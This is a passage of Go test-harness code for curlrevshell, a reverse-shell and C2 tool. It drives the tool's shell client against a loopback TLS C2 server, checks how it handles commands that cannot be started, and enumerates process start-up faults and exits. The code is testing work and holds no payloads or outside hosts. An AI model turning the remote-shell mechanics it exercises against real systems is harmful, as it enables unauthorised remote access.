	pokes    atomic.Int64 // input bytes sent beyond the plan's
	proto    atomic.Int64
	consDone chan struct{}
	consOnce sync.Once
}

func (g *gsServer) finishCons() { g.consOnce.Do(func() { close(g.consDone) }) }

func (g *gsServer) ServeHTTP(w http.ResponseWriter, req *http.Request) {
	if !g.started.CompareAndSwap(false, true) {
		g.extra.Add(1)
		http.Error(w, "one request per run", http.StatusConflict)
		return
	}
	r := g.r
	r.prog.Add(1)
	g.proto.Store(int64(req.ProtoMajor))
	rc := http.NewResponseController(w)
	_ = rc.EnableFullDuplex() // HTTP/1 only; HTTP/2 always is
	w.WriteHeader(http.StatusOK)
	if err := rc.Flush(); err != nil {
		g.ob.harnessErr = "C2 side: flushing the response header: " + err.Error()
		g.finishCons()
		return
	}
	// the input: the response body
	inDone := make(chan struct{})
	go func() {
		defer close(inDone)
		g.feed(w, rc)
	}()
	// the consumer: the request body
	r.consume(g.ob, req.Body.Read)
	g.finishCons()
	// the response may only end (the handler return) when nobody writes to it
	// any more; the feeder gives up when the run is aborted
	<-inDone
}

// feed writes the plan's input items to the response.
func (g *gsServer) feed(w http.ResponseWriter, rc *http.ResponseController) {
	r := g.r
	pos := 0
	for _, it := range r.pl.input {
		if r.aborted.Load() {
			return
		}
		switch it.K {
		case "ingate":
			r.inGate.Store(true)
			ok := r.waitCond(r.childExited)
			r.inGate.Store(false)
			if !ok {
				return
			}
		case "in":
			buf := make([]byte, it.N)
			for j := range buf {
				buf[j] = inByte(pos + j)
			}
			pos += it.N
			_, err := w.Write(buf)
			if err == nil {
				err = rc.Flush()
			}
			r.prog.Add(1)
			if err != nil {
				// the other side is gone; whatever that means is judged from
				// what the consumer and the child saw
				g.ob.notes = append(g.ob.notes, "C2 side: writing input: "+err.Error())
				return
			}
		}
	}
	r.inputDone.Store(true)
	// Belt and braces: the input after the command's exit is what lets
	// os/exec's Wait return (its copy of the input fails writing to the dead
	// command and so stops reading).  Should those bytes have slipped into the
	// pipe all the same, one more byte now and then does it; an operator may
	// type at any time.  (Not progress: a stream that does not end although
	// input keeps coming is still stuck.)
	for {
		select {
		case <-g.consDone:
			return
		case <-r.abort:
			return
		case <-time.After(pokeEvery):
		}
		if _, err := w.Write([]byte{inByte(pos)}); err != nil {
			return
		}
		if rc.Flush() != nil {
			return
		}
		pos++
		g.pokes.Add(1)
	}
}

const pokeEvery = 250 * time.Millisecond

func newRunner(pl *plan, dir string) *runner {
	r := &runner{pl: pl, dir: dir, self: os.Getpid(), abort: make(chan struct{}), goDone: make(chan struct{})}
	r.consGate.Store("")
	for i, st := range pl.child {
		if st.K == "cwait" {
			r.cwaits = append(r.cwaits, cw{step: i, n: st.N})
		}
	}
	return r
}

// runPlanGS runs one real process under pl through simpleshell.GoSimple.
func runPlanGS(pl *plan, dir string, stuckCap time.Duration) *observed {
	ob := &observed{napBehind: -1}
	self, err := os.Executable()
	if err != nil {
		ob.harnessErr = "os.Executable: " + err.Error()
		return ob
	}
	id := gsIdentity()
	if id.err != nil {
		ob.harnessErr = "TLS identity: " + id.err.Error()
		return ob
	}
	r := newRunner(pl, dir)
	r.strictInput = true
	ln, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		ob.harnessErr = "listen on loopback: " + err.Error()
		return ob
	}
	g := &gsServer{r: r, ob: ob, ln: ln, consDone: make(chan struct{})}
	g.srv = &http.Server{
		Handler:   g,
		TLSConfig: &tls.Config{Certificates: []tls.Certificate{id.cert}, MinVersion: tls.VersionTLS12},
		ErrorLog:  log.New(io.Discard, "", 0),
	}
	if pl.cfg.Win != 0 {
		g.srv.HTTP2 = &http.HTTP2Config{MaxReceiveBufferPerStream: pl.cfg.Win, MaxReceiveBufferPerConnection: pl.cfg.Win}
	}
	srvDone := make(chan struct{})
	go func() {
		defer close(srvDone)
		_ = g.srv.ServeTLS(ln, "", "")
	}()
	defer func() {
		r.doAbort() // releases whoever still waits at a gate
		_ = g.srv.Close()
		<-srvDone
	}()

	fp := id.fp
	if pl.cfg.FPre {
		fp = "sha256//" + fp
	}
	c2 := "https://" + ln.Addr().String() + simpleshell.IOPath
	pj, _ := json.Marshal(&puppetPlan{Dir: dir, Steps: pl.child})
	go func() {
		ob.goErr = simpleshell.GoSimple(context.Background(), c2, fp, []string{self, puppetArg + string(pj)})
		if !g.started.Load() {
			// it never got as far as the C2 (and so never started the
			// command): nothing of the property was exercised
			ob.harnessErr = fmt.Sprintf("GoSimple returned without having connected to the worker's C2 side: %v", ob.goErr)
			g.finishCons()
		}
		close(r.goDone)
	}()
	r.supervise(ob, g.consDone, stuckCap, func() { _ = g.srv.Close() })
	r.readResult(ob)
	ob.gs = true
	ob.proto = int(g.proto.Load())
	ob.extraReqs = int(g.extra.Load())
	ob.pokes = int(g.pokes.Load())
	if r.napped.Load() && ob.res != nil {
		ob.napBehind = int64(ob.res.W[1]+ob.res.W[2]) - r.napBacklog.Load()
	}
	return ob
}
