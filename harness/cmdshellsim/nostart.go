package cmdshellsim

import (
	"context"
	"fmt"
	"os"
	"os/exec"
	"path/filepath"
	"runtime"
	"time"

	"golang.org/x/sys/unix"

	"github.com/magisterquis/curlrevshell/lib/simpleshell"
	"github.com/magisterquis/curlrevshell/verifharness/simkit"
)

// The family "the command cannot be started" (Config.Fam == famNoStart).
//
// The most unsuccessful of unsuccessful exits: the wrapped command is a program
// that does not exist, a file without execute permission, a directory, or a
// bare name that is not on PATH.  There is no puppet: no process ever runs.
// NewCmdShell is given such a command, Go is called, and the consumer reads
// Output().  What the statement demands here is its last sentence: Go reports
// the failure as an error, and the output stream ENDS (a Read returns an error
// or io.EOF) - the consumer of Output(), in the program the body of the HTTP
// POST to curlrevshell, must not be left waiting for ever for the output of a
// command that will never write any.
//
// Varied: the kind of command (Config.Kind); the input (SetInput not called at
// all (Config.NoIn), a reader that is at its end at once, a reader with data
// pending, with the reader modes io.Reader allows); whether the consumer is
// already inside Read when Go is called (item gowait: the caller of Go waits
// for that, an observed state), starts reading only after Go has returned
// (item rgate go_returned) or runs free; the size of the consumer's reads.
//
// Verdicts.  A run that ends is judged by judgeNoStart.  A run that does not
// end is judged by judgeStuckNoStart after the engine's usual cap without any
// progress, and only in states nothing of the harness can be the cause of:
// there is no child, the input reader of this family never waits, so once Go
// has returned nobody is left who could still write to the stream or end it.
const famNoStart = "nostart"

// The kinds of command that cannot be started.
const (
	nsMissing  = "missing"  // a path at which there is nothing
	nsNoExec   = "noexec"   // a regular file without any execute bit
	nsDir      = "dir"      // a directory
	nsLookPath = "lookpath" // a bare name that is not on PATH (exec.Command itself notes the failure)
)

var noStartKinds = []string{nsMissing, nsNoExec, nsDir, nsLookPath}

// nsBareName is the bare command name of kind lookpath.
const nsBareName = "verif-c14-no-such-command-on-path"

// goSettle: after the consumer was seen on its way into Read the caller of Go
// gives it a moment to get there (a scheduling aid, nothing is judged by it).
const goSettle = 2 * time.Millisecond

func isGoItem(k string) bool { return k == "gowait" }

// newPlanNoStart validates the items of a famNoStart case (p.cfg and p.items
// are set).
func newPlanNoStart(p *plan) (*plan, string) {
	cfg := p.cfg
	if cfg.Win != 0 || cfg.FPre {
		return nil, "server options without a server"
	}
	ok := false
	for _, k := range noStartKinds {
		if cfg.Kind == k {
			ok = true
		}
	}
	if !ok {
		return nil, "unknown kind of command that cannot be started: " + cfg.Kind
	}
	drainSeen := false
	for _, it := range p.items {
		switch {
		case isChild(it.K):
			return nil, "child step for a command that cannot be started"
		case isGoItem(it.K):
			if it.G != "consumer_reading" {
				return nil, "bad gate of the caller of Go"
			}
			if p.goWait {
				return nil, "two gowait items"
			}
			p.goWait = true
		case isInput(it.K):
			if cfg.NoIn {
				return nil, "input items without an input"
			}
			switch it.K {
			case "in":
				if it.N < 1 || it.N > maxChunk {
					return nil, "bad input chunk"
				}
				p.inTotal += it.N
			case "inz":
				p.zeroRds++
			case "indataeof":
				p.dataEOF = true
				continue
			default:
				// nobody ever exits
				return nil, "input gate for a command that cannot be started"
			}
			p.input = append(p.input, it)
		case isCons(it.K):
			switch it.K {
			case "rgate":
				// there is nobody to be reaped, and nobody is bound to read
				// the input
				if it.G != "go_returned" {
					return nil, "bad consumer gate for a command that cannot be started"
				}
				p.gates[it.G]++
			case "drain":
				if drainSeen {
					return nil, "two drain items"
				}
				drainSeen = true
				if it.Sz < 1 || it.Sz > maxChunk {
					return nil, "bad drain size"
				}
				p.drain = it.Sz
			default:
				return nil, "consumer item " + it.K + " for a command that cannot be started"
			}
			p.cons = append(p.cons, it)
		default:
			return nil, "unknown item kind " + it.K
		}
	}
	if p.inTotal > pipeSafe {
		return nil, "input too large for this plan"
	}
	// the one possible cycle of waits
	if p.goWait && p.gates["go_returned"] > 0 {
		return nil, "Go waits for the consumer that waits for Go"
	}
	return p, ""
}

// generateNoStart draws one case of the family.
func generateNoStart(rng *simkit.RNG) (Config, []Item) {
	cfg := Config{V: 1, Fam: famNoStart}
	cfg.Kind = noStartKinds[rng.Pick([]int{3, 3, 3, 2})]
	var input, caller, cons []Item
	switch rng.Intn(4) {
	case 0:
		cfg.NoIn = true
	case 1:
		// an input that is at its end at once
		if rng.Chance(1, 3) {
			input = append(input, Item{K: "inz"})
		}
	default:
		input = inputChunks(rng, pick(rng, []int{1, 7, 100, 4096, 5000, 40000}))
		for k := rng.Intn(3); k > 0 && rng.Chance(1, 2); k-- {
			input = insertAt(rng, input, Item{K: "inz"})
		}
		if rng.Chance(1, 3) {
			input = append(input, Item{K: "indataeof"})
		}
	}
	switch rng.Intn(3) {
	case 0: // the consumer starts only after Go has returned
		cons = append(cons, Item{K: "rgate", G: "go_returned"})
	case 1: // Go is called only once the consumer is reading
		caller = append(caller, Item{K: "gowait", G: "consumer_reading"})
	default: // both at once
	}
	cons = append(cons, drainItem(rng, 0)...)
	var items []Item
	items = append(items, input...)
	items = append(items, caller...)
	items = append(items, cons...)
	return cfg, items
}

// unstartable prepares, below dir, the command of the given kind and makes
// sure that it is what it is meant to be.
func unstartable(kind, dir string) (name string, harnessErr string) {
	switch kind {
	case nsMissing:
		name = filepath.Join(dir, "no_such_program")
		if _, err := os.Lstat(name); err == nil {
			return "", "there is something at " + name
		}
	case nsNoExec:
		name = filepath.Join(dir, "not_executable")
		if err := os.WriteFile(name, []byte("#!/bin/sh\nexit 0\n"), 0o644); err != nil {
			return "", "scratch: " + err.Error()
		}
		if err := os.Chmod(name, 0o644); err != nil {
			return "", "scratch: " + err.Error()
		}
		if unix.Access(name, unix.X_OK) == nil {
			return "", "a file of mode 0644 counts as executable here"
		}
	case nsDir:
		name = filepath.Join(dir, "a_directory")
		if err := os.Mkdir(name, 0o755); err != nil {
			return "", "scratch: " + err.Error()
		}
	case nsLookPath:
		name = nsBareName
		if p, err := exec.LookPath(name); err == nil {
			return "", "there is a command " + p
		}
	default:
		return "", "unknown kind " + kind
	}
	return name, ""
}

// runPlanNoStart runs one case of the family: no process, the real CmdShell.
func runPlanNoStart(pl *plan, dir string, stuckCap time.Duration) *observed {
	ob := &observed{noStart: true}
	name, herr := unstartable(pl.cfg.Kind, dir)
	if herr != "" {
		ob.harnessErr = herr
		return ob
	}
	r := newRunner(pl, dir)
	cmd := exec.Command(name)
	cmd.Dir = dir
	sh, err := simpleshell.NewCmdShell(cmd)
	if err != nil {
		ob.harnessErr = "NewCmdShell: " + err.Error()
		return ob
	}
	if !pl.cfg.NoIn {
		sh.SetInput(&inReader{r: r, items: pl.input})
	}
	out := sh.Output()

	go func() {
		if pl.goWait {
			r.goGate.Store(true)
			if r.waitCond(r.consReading.Load) {
				// on its way into Read; let it arrive
				for i := 0; i < 4; i++ {
					runtime.Gosched()
				}
				time.Sleep(goSettle)
			}
			r.goGate.Store(false)
		}
		r.prog.Add(1)
		ob.goErr = sh.Go(context.Background())
		// (read only here, when Go is over: nothing else touches cmd)
		ob.started = cmd.Process != nil
		r.prog.Add(1)
		close(r.goDone)
	}()
	consDone := make(chan struct{})
	go func() {
		defer close(consDone)
		r.consume(ob, out.Read)
	}()
	r.supervise(ob, consDone, stuckCap, func() { _ = out.Close() })
	if ob.goReturned && ob.started && cmd.Process != nil {
		// cannot be, but do not leave a process behind
		_ = cmd.Process.Kill()
	}
	return ob
}

// judgeStuckNoStart decides what a run of the family that makes no progress
// means.  There is no child and the input never waits: the only waits of the
// harness are the consumer's for Go to return and the Go caller's for the
// consumer to be reading, and a plan has at most one of them.
func (r *runner) judgeStuckNoStart(ob *observed, consDone, goDone bool) {
	gate, _ := r.consGate.Load().(string)
	reading := r.consReading.Load()
	goGate := r.goGate.Load()
	ob.stuck = fmt.Sprintf("command=%s consumer_done=%v consumer_gate=%q consumer_in_read=%v go_returned=%v go_caller_waiting=%v",
		r.pl.cfg.Kind, consDone, gate, reading, goDone, goGate)
	found := func(inv, sig, msg string) {
		ob.stuckFound = &simkit.Found{Property: prop, Invariant: inv, Signature: sig, Message: msg + " (" + ob.stuck + ")"}
	}
	switch {
	case goDone && !consDone && gate == "" && reading:
		// Go is over and no process exists: nobody is left who could write to
		// the stream or end it, and the consumer has been inside Read for the
		// whole cap.
		found("stream-ends", "no end of stream after Go returned: the command could not be started",
			fmt.Sprintf("the command (%s) cannot be started and Go has returned (%s), but the consumer's Read of the output stream does not return: the stream never ends",
				kindText(r.pl.cfg.Kind), errText(ob.goErr)))
	case !goDone && !goGate && (consDone || gate == "go_returned" || (gate == "" && reading)):
		found("exit-status-reported", "Go did not return: the command could not be started",
			fmt.Sprintf("the command (%s) cannot be started, nothing the shell could wait for is outstanding, but Go does not return",
				kindText(r.pl.cfg.Kind)))
	default:
		ob.harnessErr = "run stuck in a state the harness cannot attribute: " + ob.stuck
	}
}

func errText(err error) string {
	if err == nil {
		return "with a nil error"
	}
	return "with an error"
}

func kindText(kind string) string {
	switch kind {
	case nsMissing:
		return "a path at which there is no file"
	case nsNoExec:
		return "a file without execute permission"
	case nsDir:
		return "a directory"
	case nsLookPath:
		return "a bare name that is not on PATH"
	}
	return kind
}

// judgeNoStart is the oracle for a run of the family that came to an end: the
// consumer has seen the end of the stream and Go has returned.
func judgeNoStart(pl *plan, ob *observed) (vs []simkit.Found, facts []string, harnessErr string) {
	if !ob.goReturned || !ob.ended {
		return nil, []string{"run over without an end"}, fmt.Sprintf("run over, but Go returned: %v, consumer saw the end of the stream: %v", ob.goReturned, ob.ended)
	}
	if ob.started {
		return nil, []string{"command started"}, "the command (" + kindText(pl.cfg.Kind) + ") was started"
	}
	facts = append(facts, "end of stream: seen")
	if ob.goErr == nil {
		vs = append(vs, simkit.Found{Property: prop, Invariant: "exit-status-reported",
			Signature: "command that could not be started reported as success",
			Message:   fmt.Sprintf("the command (%s) cannot be started and no process was, but Go returned nil", kindText(pl.cfg.Kind))})
		facts = append(facts, "go: nil although the command was not started")
	} else {
		facts = append(facts, "go: error, command not started")
	}
	return vs, facts, ""
}

// countPlanNoStart fills Faults and Probes for a run of the family (all of it
// follows from the plan: a run in which the command did start is a harness
// error).
func countPlanNoStart(pl *plan, o *simkit.Outcome) {
	o.Probes["nostart_runs"]++
	o.Faults["command_cannot_be_started"]++
	o.Faults["cannot_start_"+pl.cfg.Kind]++
	switch {
	case pl.goWait:
		o.Probes["nostart_consumer_reading_before_go"]++
	case pl.gates["go_returned"] > 0:
		o.Probes["nostart_consumer_after_go_returned"]++
	default:
		o.Probes["nostart_consumer_free"]++
	}
	switch {
	case pl.cfg.NoIn:
		o.Probes["nostart_no_input_set"]++
	case pl.inTotal > 0:
		o.Probes["nostart_input_pending"]++
	default:
		o.Probes["nostart_input_at_eof"]++
	}
}
