// Package procsim is the process-level engine of the harness (property C20):
// it builds the shipped binary from the tree the harness was compiled
// against and enumerates start-up faults, informational flags, TTY/no TTY
// and the normal ways of leaving the program, each as one short real process
// under a fresh pseudo-terminal (or without any controlling terminal).  A last
// block repeats exits and a few late start-up faults with the standard input
// redirected away from the terminal (/dev/null, a pipe, a regular file) while
// the pty stays the controlling terminal: the mode of THAT terminal is what
// has to come back.
//
// Nothing is simulated here: binary, kernel, pty and loopback TCP are real.
package procsim

import (
	"encoding/json"
	"fmt"
	"os"
)

// Property is what the engine judges: start-up failures and exits (C20).
// PropertyOneShell (C12) is judged by the -one-shell family, which is part of
// the C20 enumeration and the whole of the C12 one.
const (
	Property         = "C20"
	PropertyOneShell = "C12"
)

// Informational flags.
const (
	InfoNone     = ""
	InfoTemplate = "-print-default-template"
	InfoCtrlI    = "-print-ctrl-i"
	InfoHelp     = "-h"
)

var infoFlags = []string{InfoNone, InfoTemplate, InfoCtrlI, InfoHelp}

// Certificate cache choices of a case without a cache fault.
const (
	CacheFresh   = "fresh"   // explicit path that does not exist yet
	CacheGood    = "good"    // explicit path holding a valid cache
	CacheDefault = "default" // flag not given: $XDG_CACHE_HOME/...
)

// Config is what is fixed in a case.
type Config struct {
	TTY     bool   `json:"tty"`     // child gets a fresh pty as controlling terminal
	Info    string `json:"info"`    // informational flag, or ""
	Termios int    `json:"termios"` // termios variant the pty is put in before the start
	Cache   string `json:"cache"`   // see Cache* (ignored with a cache fault)

	// What the child's standard input is when it is not the terminal (see
	// Stdin*; tty cases without an informational flag only).  The pty stays
	// the controlling terminal, standard output and standard error.
	Stdin string `json:"stdin,omitempty"`

	// The certificate-cache family (cachefam.go) only.
	CacheLoc string `json:"cache_loc,omitempty"` // see Loc*: where the cache file is
	Missing  int    `json:"missing,omitempty"`   // directory levels on the way to it that do not exist yet
	Umask    string `json:"umask,omitempty"`     // three octal digits: the umask the processes inherit
}

// Kinds of standard input (Config.Stdin).  The program talks to the terminal
// through /dev/tty and its standard output, and reads the operator's keys from
// its standard input: started as `curlrevshell </dev/null` (or from a pipe, or
// from a file) it still has a terminal whose mode it changes and has to
// return.
const (
	StdinTTY     = ""        // the terminal itself
	StdinDevNull = "devnull" // /dev/null: end-of-file at once
	StdinPipe    = "pipe"    // a pipe whose other end the harness holds: the keys are typed into it
	StdinFile    = "file"    // a regular file holding the keys of the exit (if any); end-of-file after them
)

var stdinKinds = []string{StdinDevNull, StdinPipe, StdinFile}

// Action kinds.
const (
	KFault = "fault"
	KExit  = "exit"
)

// Fault ids (the class reported in Outcome.Faults).
const (
	FNoTTY              = "notty"
	FAddrUnparsable     = "addr_unparsable"
	FAddrUnresolvable   = "addr_unresolvable"
	FAddrInUse          = "addr_in_use"
	FCacheTruncated     = "cache_truncated"
	FCacheGarbage       = "cache_garbage"
	FCacheKeyCertSwap   = "cache_keycertswap"
	FCacheBelowFile     = "cache_below_file"
	FCacheIsDir         = "cache_is_dir"
	FCacheDirUnwritable = "cache_dir_unwritable"
	FCacheUncreatable   = "cache_uncreatable"
	FLogIsDir           = "log_is_dir"
	FLogBelowFile       = "log_below_file"
	FCtrlIMissing       = "ctrli_missing"
)

// Ways of leaving a normally started program (and the -one-shell family,
// see oneshell.go).
const (
	ExitCtrlC = "ctrl_c"
	ExitCtrlD = "ctrl_d"
	// leaving with a Ctrl+I insert in flight: -ctrl-i names a directory of
	// many files, Tab is typed and the program is left at once
	ExitInsertCtrlD = "insert_ctrl_d" // "\t\x04" in one write
	ExitInsertCtrlC = "insert_ctrl_c" // Tab, then Ctrl+C
	// the redirected standard input ends (Config.Stdin only): /dev/null, an
	// empty file, or the harness closes its end of the pipe.  The statement
	// does not say the program leaves then; when it does, it is an exit by
	// itself like any other.
	ExitStdinEOF = "stdin_eof"
)

// UncreatablePath is a cache path whose directory exists but in which not
// even root can create a file.
const UncreatablePath = "/proc/curlrevshell-verif-cert.txtar"

func isInsertExit(how string) bool { return how == ExitInsertCtrlD || how == ExitInsertCtrlC }

// insertSweep is how many files the Ctrl+I directory holds in the successive
// processes of one insert case: whether the insert is still being prepared,
// just being handed over or done when the program leaves depends on how long
// the preparation takes, so the case sweeps over it.  The oracle does not
// depend on which of them happens.
var insertSweep = []int{300, 0, 1, 2, 3, 4, 6, 8, 12, 16, 24, 0, 1, 2, 3, 4, 6, 8, 12, 16, 24}

// Action is one independent item of a case: a start-up fault, or the way the
// harness ends a program that started normally.
type Action struct {
	K  string `json:"k"`
	ID string `json:"id"`
	V  int    `json:"v,omitempty"` // variant of the fault
}

func (a Action) String() string {
	if a.V != 0 {
		return fmt.Sprintf("%s:%s/%d", a.K, a.ID, a.V)
	}
	return a.K + ":" + a.ID
}

// caseSpec is one explicit case.
type caseSpec struct {
	cfg  Config
	acts []Action
}

// group returns the group of a fault; two faults of one group contradict
// each other (they fight over the same flag).
func group(id string) string {
	switch id {
	case FNoTTY:
		return "notty"
	case FAddrUnparsable, FAddrUnresolvable, FAddrInUse:
		return "addr"
	case FCacheTruncated, FCacheGarbage, FCacheKeyCertSwap, FCacheBelowFile,
		FCacheIsDir, FCacheDirUnwritable, FCacheUncreatable:
		return "cache"
	case FLogIsDir, FLogBelowFile:
		return "log"
	case FCtrlIMissing:
		return "ctrli"
	}
	return ""
}

// addrUnparsable are the variants of FAddrUnparsable.
var addrUnparsable = []string{"not an address:99999", "127.0.0.1:notaport"}

// isRoot: permission faults do not bite for root.
func isRoot() bool { return os.Geteuid() == 0 }

// faultItems is the fixed, ordered list of enumerated faults (notty is a
// dimension of its own).
func faultItems() []Action {
	l := []Action{
		{K: KFault, ID: FAddrUnparsable, V: 0},
		{K: KFault, ID: FAddrUnparsable, V: 1},
		{K: KFault, ID: FAddrUnresolvable},
		{K: KFault, ID: FAddrInUse},
		{K: KFault, ID: FCacheTruncated},
		{K: KFault, ID: FCacheGarbage},
		{K: KFault, ID: FCacheKeyCertSwap},
		{K: KFault, ID: FCacheBelowFile},
		{K: KFault, ID: FCacheIsDir},
	}
	if !isRoot() {
		l = append(l, Action{K: KFault, ID: FCacheDirUnwritable})
	}
	// unwritable for root as well: the directory exists, nothing is cached
	// yet, and no file can be created there
	l = append(l, Action{K: KFault, ID: FCacheUncreatable})
	return append(l,
		Action{K: KFault, ID: FLogIsDir},
		Action{K: KFault, ID: FLogBelowFile},
		Action{K: KFault, ID: FCtrlIMissing},
	)
}

// normalExits are the normal-exit scenarios (tty only), each run in every
// termios variant.
var normalExits = []struct{ how, cache string }{
	{ExitCtrlC, CacheFresh},
	{ExitCtrlD, CacheGood},
	{ExitCtrlD, CacheDefault},
	{ExitInsertCtrlD, CacheFresh},
	{ExitInsertCtrlC, CacheFresh},
}

// redirectedExits are the normal-exit scenarios run with the standard input
// redirected, each in redirectedVariants termios variants (cycling through
// all of them).  What cannot be delivered through a kind of input is absent:
// /dev/null only ends; a file holds one key and ends; the -one-shell
// scenarios need an operator who types while the shell is there.
var redirectedExits = []struct{ stdin, how, cache string }{
	{StdinDevNull, ExitStdinEOF, CacheFresh},
	{StdinPipe, ExitCtrlC, CacheFresh},
	{StdinPipe, ExitCtrlD, CacheGood},
	{StdinPipe, ExitStdinEOF, CacheDefault},
	{StdinPipe, ExitOneShell, CacheFresh},
	{StdinPipe, ExitOneShellBidir, CacheFresh},
	{StdinFile, ExitCtrlC, CacheFresh},
	{StdinFile, ExitCtrlD, CacheGood},
	{StdinFile, ExitStdinEOF, CacheFresh},
}

const redirectedVariants = 2

// redirectedFaults are the start-up faults run with the standard input
// redirected: a few of those that are reached after the terminal has been put
// into raw mode (listen address, certificate cache).
func redirectedFaults() []Action {
	return []Action{
		{K: KFault, ID: FAddrUnparsable, V: 1},
		{K: KFault, ID: FAddrInUse},
		{K: KFault, ID: FCacheGarbage},
		{K: KFault, ID: FCacheUncreatable},
	}
}

// enumerateRedirected lists the cases with a redirected standard input (part
// of the C20 enumeration, at its end).
func enumerateRedirected() []caseSpec {
	var out []caseSpec
	k := 0
	for _, re := range redirectedExits {
		for i := 0; i < redirectedVariants; i++ {
			out = append(out, caseSpec{
				cfg:  Config{TTY: true, Termios: k % numTermiosVariants, Cache: re.cache, Stdin: re.stdin},
				acts: []Action{{K: KExit, ID: re.how}},
			})
			k++
		}
	}
	for _, kind := range stdinKinds {
		for _, f := range redirectedFaults() {
			out = append(out, caseSpec{
				cfg:  Config{TTY: true, Termios: k % numTermiosVariants, Cache: CacheFresh, Stdin: kind},
				acts: []Action{f},
			})
			k++
		}
	}
	return out
}

// oneShellVariants is in how many termios variants a one-shell scenario is
// run: the one that has to sit out the server's five-second grace for
// silent connections only in two.
func oneShellVariants(how string) int {
	if how == ExitOneShellIdleStraggler {
		return 2
	}
	return numTermiosVariants
}

// enumerateOneShell lists the -one-shell family.
func enumerateOneShell() []caseSpec {
	var out []caseSpec
	for _, how := range oneShellFamily {
		for v := 0; v < oneShellVariants(how); v++ {
			out = append(out, caseSpec{
				cfg:  Config{TTY: true, Termios: v, Cache: CacheFresh},
				acts: []Action{{K: KExit, ID: how}},
			})
		}
	}
	return out
}

// enumerate lists the whole (finite) case space in its fixed order.
func enumerate(skipNoTTY bool) []caseSpec {
	var out []caseSpec
	// normal exits
	for _, ne := range normalExits {
		for v := 0; v < numTermiosVariants; v++ {
			out = append(out, caseSpec{
				cfg:  Config{TTY: true, Termios: v, Cache: ne.cache},
				acts: []Action{{K: KExit, ID: ne.how}},
			})
		}
	}
	out = append(out, enumerateOneShell()...)
	// the empty set, every single fault, every pair of non-contradicting faults
	items := faultItems()
	sets := [][]Action{nil}
	for _, it := range items {
		sets = append(sets, []Action{it})
	}
	for i := range items {
		for j := i + 1; j < len(items); j++ {
			if group(items[i].ID) == group(items[j].ID) {
				continue
			}
			sets = append(sets, []Action{items[i], items[j]})
		}
	}
	// the fault sets vary fastest, so that any worker count spreads every
	// (tty, flag) combination over all workers
	k := 0
	for _, tty := range []bool{true, false} {
		if !tty && skipNoTTY {
			continue
		}
		for _, info := range infoFlags {
			for _, set := range sets {
				if tty && info == InfoNone && len(set) == 0 {
					continue // the normal-exit scenarios above
				}
				cs := caseSpec{cfg: Config{TTY: tty, Info: info, Cache: CacheFresh}}
				if tty {
					// only a terminal has a mode: cycle through the variants
					cs.cfg.Termios = k % numTermiosVariants
					k++
				} else {
					cs.acts = append(cs.acts, Action{K: KFault, ID: FNoTTY})
				}
				cs.acts = append(cs.acts, set...)
				if expect(&cs).kind == expNormal {
					// nothing here keeps it from starting (a missing Ctrl+I
					// source is only a warning): it has to be ended
					cs.acts = append(cs.acts, Action{K: KExit, ID: ExitCtrlD})
				}
				out = append(out, cs)
			}
		}
	}
	// standard input redirected away from the terminal (at the end: the
	// numbering of everything above stays what it was)
	out = append(out, enumerateRedirected()...)
	return out
}

// stdinContent is what a StdinFile case's file holds: the key of the exit.
func (cs *caseSpec) stdinContent() []byte {
	if expect(cs).kind == expNormal {
		switch cs.exitHow() {
		case ExitCtrlC:
			return []byte{0x03}
		case ExitCtrlD:
			return []byte{0x04}
		}
	}
	return nil
}

// inputEndsByItself: the program's input is over without the harness doing
// anything (there is nobody to type).
func (cs *caseSpec) inputEndsByItself() bool {
	return cs.cfg.Stdin == StdinDevNull || cs.cfg.Stdin == StdinFile
}

// validateStdin checks the standard-input part of a case.
func (cs *caseSpec) validateStdin() string {
	how, hasExit := "", false
	for _, a := range cs.acts {
		if a.K == KExit {
			how, hasExit = a.ID, true
		}
	}
	if cs.cfg.Stdin == StdinTTY {
		if how == ExitStdinEOF {
			return "the terminal as standard input does not end"
		}
		return ""
	}
	okKind := false
	for _, k := range stdinKinds {
		okKind = okKind || k == cs.cfg.Stdin
	}
	if !okKind {
		return "unknown kind of standard input " + cs.cfg.Stdin
	}
	if !cs.cfg.TTY || cs.cfg.Info != InfoNone {
		return "redirected standard input is for tty cases without an informational flag"
	}
	if cs.cfg.CacheLoc != "" || cs.cfg.Missing != 0 || cs.cfg.Umask != "" {
		return "redirected standard input is not part of the certificate-cache family"
	}
	if !hasExit {
		return ""
	}
	switch cs.cfg.Stdin {
	case StdinDevNull:
		if how != ExitStdinEOF {
			return "nothing can be typed into /dev/null"
		}
	case StdinFile:
		if how != ExitStdinEOF && how != ExitCtrlC && how != ExitCtrlD {
			return "a file as standard input holds one key at most"
		}
	case StdinPipe:
		if isLogExit(how) || isCacheExit(how) {
			return "the log and cache families have the terminal as standard input"
		}
	}
	return ""
}

// validate says why a (replayed) case cannot be executed, or "".
func (cs *caseSpec) validate() string {
	okInfo := false
	for _, f := range infoFlags {
		okInfo = okInfo || f == cs.cfg.Info
	}
	if !okInfo {
		return "unknown informational flag " + cs.cfg.Info
	}
	if cs.cfg.Termios < 0 || cs.cfg.Termios >= numTermiosVariants {
		return "unknown termios variant"
	}
	switch cs.cfg.Cache {
	case CacheFresh, CacheGood, CacheDefault:
	default:
		return "unknown cache choice " + cs.cfg.Cache
	}
	seen := map[string]bool{}
	exits := 0
	for _, a := range cs.acts {
		switch a.K {
		case KFault:
			g := group(a.ID)
			if g == "" {
				return "unknown fault " + a.ID
			}
			if seen[g] {
				return "two faults of group " + g
			}
			seen[g] = true
			if a.ID == FAddrUnparsable && (a.V < 0 || a.V >= len(addrUnparsable)) {
				return "unknown variant of " + a.ID
			}
			if a.ID != FAddrUnparsable && a.V != 0 {
				return "unknown variant of " + a.ID
			}
			if a.ID == FCacheDirUnwritable && isRoot() {
				return "permission fault cannot be injected as root"
			}
		case KExit:
			exits++
			if a.ID != ExitCtrlC && a.ID != ExitCtrlD && a.ID != ExitStdinEOF && !isInsertExit(a.ID) && !isOneShell(a.ID) && !isLogExit(a.ID) && !isCacheExit(a.ID) {
				return "unknown exit " + a.ID
			}
		default:
			return "unknown action kind " + a.K
		}
	}
	if exits > 1 {
		return "more than one exit action"
	}
	if why := cs.validateCache(); why != "" {
		return why
	}
	if why := cs.validateStdin(); why != "" {
		return why
	}
	// without a TTY is itself the fault "notty": the two must agree, so the
	// minimiser cannot drop the item while the configuration keeps it
	if cs.cfg.TTY == seen["notty"] {
		return "notty item and tty configuration disagree"
	}
	if exits > 0 && !cs.cfg.TTY {
		return "exit action without a terminal"
	}
	// a program that is going to start needs its way out spelled out (so the
